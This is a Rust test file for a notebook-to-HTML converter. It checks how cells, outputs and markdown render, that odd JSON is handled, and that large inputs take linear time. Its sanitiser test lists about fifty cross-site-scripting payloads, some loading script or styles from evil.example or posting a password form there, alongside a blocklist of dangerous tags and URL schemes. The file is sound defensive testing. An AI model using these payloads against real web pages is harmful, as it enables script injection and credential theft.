//! Pages as tables: what goes in, what must and must not come out.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::notebook_to_html;

fn page_of(cells: Value) -> String {
    notebook_to_html(&json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), "title")
}

/// The page's body without the script of ours.
fn body_of(cells: Value) -> String {
    let page = page_of(cells);
    let body = page.split_once("<main>\n").unwrap().1;
    body.split_once("</main>").unwrap().0.to_owned()
}

fn markdown(source: &str) -> String {
    let body = body_of(json!([{"cell_type": "markdown", "metadata": {}, "source": source}]));
    let body = body.split_once("<div class=\"prose\">").unwrap().1;
    body.rsplit_once("</div>").unwrap().0.trim_end().to_owned()
}

fn output(output: Value) -> String {
    body_of(json!([{"cell_type": "code", "metadata": {"jupyter": {"source_hidden": true}}, "source": "",
        "execution_count": 1, "outputs": [output]}]))
}

fn display(kind: &str, data: &Value) -> String {
    output(json!({"output_type": "display_data", "metadata": {}, "data": {kind: data}}))
}

#[test]
fn a_page_has_a_title_cells_and_prompts() {
    let notebook = json!({"nbformat": 4, "nbformat_minor": 5,
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python <3>"}},
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Head", "ing\n", "text"]},
        {"cell_type": "code", "metadata": {"tags": ["parameters", "a b\"><"]}, "source": "x = '<1>'\n",
         "execution_count": 3, "outputs": [
            {"output_type": "execute_result", "execution_count": 3, "metadata": {}, "data": {"text/plain": "1 < 2"}}]},
        {"cell_type": "code", "metadata": {}, "source": "\n\npass", "execution_count": null, "outputs": []},
        {"cell_type": "raw", "metadata": {}, "source": "<raw>"},
    ]});
    let page = notebook_to_html(&notebook, "a <b> & c");
    for expected in [
        "<title>a &lt;b&gt; &amp; c</title>",
        "<h1>a &lt;b&gt; &amp; c</h1>",
        "Python &lt;3&gt; · 4 cells",
        "<h1>Heading</h1>\n<p>text</p>",
        "class=\"cell code celltag_parameters celltag_a-b---\"",
        "In&nbsp;[3]:</div><pre class=\"source\">\nx = &#39;&lt;1&gt;&#39;\n</pre>",
        "Out[3]:</div><pre class=\"plain\">\n1 &lt; 2</pre>",
        "In&nbsp;[&nbsp;]:</div><pre class=\"source\">\n\n\npass</pre>",
        "<pre class=\"source\">\n&lt;raw&gt;</pre>",
    ] {
        assert!(page.contains(expected), "{expected} in {page}");
    }
    assert!(page.starts_with("<!DOCTYPE html>") && page.ends_with("</html>\n"));
}

#[test]
fn hidden_inputs_and_folded_outputs() {
    let cell = |metadata: Value| {
        body_of(
            json!([{"cell_type": "code", "metadata": metadata, "source": "secret()", "execution_count": 1,
            "outputs": [{"output_type": "stream", "name": "stdout", "text": "said"}]}]),
        )
    };
    let hidden = cell(json!({"jupyter": {"source_hidden": true}}));
    assert!(!hidden.contains("secret()") && hidden.contains("said"));
    assert!(cell(json!({"jupyter": {"source_hidden": "true"}})).contains("secret()"));
    assert!(cell(json!({"jupyter": {"outputs_hidden": true}})).contains("<details"));
    assert!(!cell(json!({})).contains("<details"));
}

#[test]
fn streams_and_errors_look_as_in_a_terminal() {
    let cells = json!([{"cell_type": "code", "metadata": {}, "source": "", "execution_count": 1, "outputs": [
        {"output_type": "stream", "name": "stderr", "text": ["  0%|", "    |"]},
        {"output_type": "stream", "name": "stderr", "text": "\r100%|####|\n"},
        {"output_type": "stream", "name": "stdout", "text": "<out>"},
        {"output_type": "error", "ename": "ValueError", "evalue": "<bad>\nmore", "traceback":
            ["\u{1b}[31mValueError\u{1b}[39m: <bad>", "more"]},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": []},
    ]}]);
    let page = page_of(cells);
    for expected in [
        "<pre class=\"stream stderr\">\n100%|####|\n</pre>",
        "<pre class=\"stream\">\n&lt;out&gt;</pre>",
        "<pre class=\"stream error\">\n<span class=\"ansi-fg-1\">ValueError</span>: &lt;bad&gt;\nmore</pre>",
        "<pre class=\"stream error\">\nE: v</pre>",
        "<a href=\"#cell-0\">Cell 1</a> failed: ValueError: &lt;bad&gt;</p>",
    ] {
        assert!(page.contains(expected), "{expected} in {page}");
    }
}

#[test]
fn the_richest_representation_is_shown() {
    let png = json!("iVBORw0KGgo=\n");
    let shown = |data: Value| output(json!({"output_type": "display_data", "metadata": {}, "data": data}));
    let html = shown(json!({"text/plain": "plain", "text/html": "<table>", "image/png": png}));
    assert!(html.contains("<iframe") && !html.contains("plain") && !html.contains("<img"));
    let image = shown(json!({"text/plain": "plain", "image/png": png}));
    assert!(image.contains("src=\"data:image/png;base64,iVBORw0KGgo=\"") && !image.contains("plain"));
    // A faulty image gives way to the next form, and so does what must not run.
    assert!(shown(json!({"text/plain": "plain", "image/png": "\" onerror=alert(1)"})).contains("plain"));
    assert!(shown(json!({"text/plain": "plain", "application/javascript": "alert(1)"})).contains("plain"));
    assert!(shown(json!({"application/x<y": 1})).contains("not shown: application/x&lt;y"));
    for (kind, data, expected) in [
        ("image/gif", json!(["R0lG", "ODdh"]), "src=\"data:image/gif;base64,R0lGODdh\""),
        ("image/svg+xml", json!("<svg/>"), "src=\"data:image/svg+xml;base64,PHN2Zy8+\""),
        ("text/markdown", json!("**b**"), "<p><strong>b</strong></p>"),
        ("text/latex", json!("$<x>$"), "<pre class=\"latex\">\n$&lt;x&gt;$</pre>"),
        ("application/json", json!({"a": ["<"]}), "{\n  &quot;a&quot;: [\n    &quot;&lt;&quot;\n  ]\n}"),
    ] {
        assert!(display(kind, &data).contains(expected), "{kind}: {}", display(kind, &data));
    }
    let sized = output(json!({"output_type": "display_data", "data": {"image/png": png},
        "metadata": {"image/png": {"width": 320, "height": "x\" onload=\"alert(1)"}}}));
    assert!(sized.contains(" width=\"320\">"), "{sized}");
}

#[test]
fn markdown_is_rendered() {
    for (source, expected) in [
        ("a **b** `c`", "<p>a <strong>b</strong> <code>c</code></p>"),
        (
            "|a|\n|-|\n|1|",
            "<table><thead><tr><th>a</th></tr></thead><tbody>\n<tr><td>1</td></tr>\n</tbody></table>",
        ),
        ("```python\nx<y\n```", "<pre><code class=\"language-python\">x&lt;y\n</code></pre>"),
        ("[x](https://a.example/?b&c)", "<p><a href=\"https://a.example/?b&amp;c\">x</a></p>"),
        ("$a_b + c_d$ costs $5", "<p><code>$a_b + c_d$</code> costs $5</p>"),
        ("a<br>b <sub>c</sub> &eacute;", "<p>a<br>b <sub>c</sub> é</p>"),
        (
            "<center>\n<img src='x.png'\n width=50%>\n</center>",
            "<center>\n<img src=\"x.png\" width=\"50%\">\n</center>",
        ),
        ("<div align=center><b>x", "<div align=\"center\"><b>x</b></div>"),
        ("</div></section>x", "x"),
        ("<p>&nbsp;1 & 2 &#60; 3", "<p>&nbsp;1 &amp; 2 &#60; 3</p>"),
    ] {
        assert_eq!(markdown(source), expected, "{source}");
    }
    let attached =
        body_of(json!([{"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:a%20b.png)",
        "attachments": {"a b.png": {"image/png": "iVBO"}}}]));
    assert!(attached.contains("<img src=\"data:image/png;base64,iVBO\""), "{attached}");
}

/// Everything that a browser could take for a tag or an attribute of ours, with the parts that must not be
/// among them.
fn assert_harmless(what: &str, html: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let mut end = 0;
        let mut quoted = false;
        for (index, character) in rest.char_indices() {
            match character {
                '"' => quoted = !quoted,
                '>' if !quoted => {
                    end = index;
                    break;
                }
                _ => {}
            }
        }
        let tag = rest[..end].to_ascii_lowercase();
        // What stands in quotes is data, and its URLs are looked at below.
        let bare: String = tag.split('"').step_by(2).collect();
        for bad in
            ["script", "object", "embed", "style=", "link", "meta", "form", "input", "base", "svg", "math"]
        {
            let is_ours = bare.starts_with("iframe") && bad == "style=";
            assert!(
                !bare.starts_with(bad) && (is_ours || !bare.contains(&format!(" {bad}"))),
                "{what}: <{tag}>"
            );
        }
        assert!(!bare.contains(" on") && !bare.contains("/on"), "{what}: <{tag}>");
        if bare.starts_with("iframe") {
            assert!(
                tag.contains("sandbox=\"allow-scripts\"") && !tag.contains("allow-same-origin"),
                "{what}: <{tag}>"
            );
        }
        for attribute in ["href=\"", "src=\""] {
            if let Some((_, value)) = tag.split_once(attribute) {
                let plain: String = value.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
                let bad = ["javascript", "vbscript", "data:text", "file:", "&#", "blob:"];
                assert!(!bad.iter().any(|bad| plain.starts_with(bad)), "{what}: <{tag}>");
            }
        }
    }
}

#[test]
fn nothing_of_a_notebook_runs_in_the_page() {
    let attacks = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example>",
        "<script\n>alert(1)\n\n</script >",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img src='x' onerror='alert(1)'",
        "<img alt='\"><script>alert(1)</script>' src=x>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=x style=\"position:fixed\" onclick=alert(1)>x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"javascript:alert(1)\"></object><embed src=x>",
        "<style>@import 'https://evil.example'</style>",
        "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>",
        "<form action=//evil.example><input name=password><button>x</button></form>",
        "<details open ontoggle=alert(1)>x</details>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<textarea></textarea><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[x](javascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](JAVASCRIPT&#58;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](javascript:alert(1))",
        "![\"><script>alert(1)</script>](x \"\\\" onerror=alert(1)\")",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "```\"><script>alert(1)</script>\nx\n```",
        "<p id=x class=y>\n\n<script>\n\nalert(1)\n\n</script>",
        "`</code><script>alert(1)</script>`",
        "$</code><script>alert(1)</script>$",
        "\"></iframe><script>alert(1)</script>",
        "'\"><svg/onload=alert(1)>",
        "</main></body><script>alert(1)</script>",
        "\u{1b}[31m<script>alert(1)</script>\u{1b}]8;;javascript:alert(1)\u{7}x",
    ];
    for attack in attacks {
        assert_harmless(attack, &markdown(attack));
        for kind in [
            "text/html",
            "text/markdown",
            "text/latex",
            "text/plain",
            "image/svg+xml",
            "image/png",
            "application/json",
            "application/javascript",
            attack,
        ] {
            assert_harmless(attack, &display(kind, &json!(attack)));
        }
        assert_harmless(attack, &output(json!({"output_type": "stream", "name": attack, "text": attack})));
        assert_harmless(attack, &output(json!({"output_type": "error", "ename": attack, "evalue": attack})));
        let cell =
            json!([{"cell_type": "code", "source": attack, "metadata": {"tags": [attack]}, "outputs": []}]);
        assert_harmless(attack, &body_of(cell));
        let named = json!({"metadata": {"kernelspec": {"display_name": attack}}});
        let page = notebook_to_html(&named, attack);
        assert_eq!(page.matches("<script").count(), 1, "{attack}");
        assert_harmless(attack, page.split_once("<header>").unwrap().1.split_once("<main>").unwrap().0);
    }
}

#[test]
fn odd_json_is_left_out() {
    for notebook in [
        json!(null),
        json!([]),
        json!({"cells": {}}),
        json!({"cells": [null, 1, [], {"cell_type": 5}]}),
        json!({"cells": [{"cell_type": "code", "source": {}, "outputs": [null, {"output_type": "stream"},
            {"output_type": "error", "traceback": [1, null]}, {"output_type": "display_data", "data": [1]},
            {"output_type": "display_data", "data": {"text/html": 5, "image/png": {}}}], "metadata": [],
            "execution_count": -1}]}),
        json!({"cells": [{"cell_type": "markdown", "attachments": [], "source": "![x](attachment:y)"}]}),
    ] {
        assert!(notebook_to_html(&notebook, "").ends_with("</html>\n"));
    }
}

#[test]
fn large_notebooks_take_linear_time() {
    let begin = Instant::now();
    let image = "iVBORw0KGgo".repeat(2_000_000);
    assert!(display("image/png", &json!(image)).len() > image.len());
    let bar: String = (0..200_000).map(|step| format!("\r\u{1b}[32m{step:6}|{:40}|\u{1b}[0m", "#")).collect();
    assert!(output(json!({"output_type": "stream", "name": "stderr", "text": bar})).len() < 1000);
    let many: Vec<_> =
        (0..100_000).map(|_| json!({"output_type": "stream", "name": "stdout", "text": "line\n"})).collect();
    body_of(json!([{"cell_type": "code", "metadata": {}, "source": "", "outputs": many}]));
    for hostile in [
        "<",
        "<a ",
        "<!--",
        "</",
        "<a href=\"",
        "<a x='\n",
        "&",
        "&#",
        "[",
        "*a_ ",
        "<script>",
        "<b>",
        "`",
        "$",
        ">",
        "- ",
    ] {
        markdown(&hostile.repeat(100_000));
        // The same inside a block of raw HTML, where only the sanitizer looks at it.
        markdown(&format!("<div>\n{}", hostile.repeat(100_000)));
    }
    markdown(&format!("<div>\n{}{}", "<b>".repeat(100_000), "</i>".repeat(100_000)));
    // Generous, for a debug build on a busy machine; what grows with the square takes minutes.
    assert!(begin.elapsed() < Duration::from_secs(60), "{:?}", begin.elapsed());
}
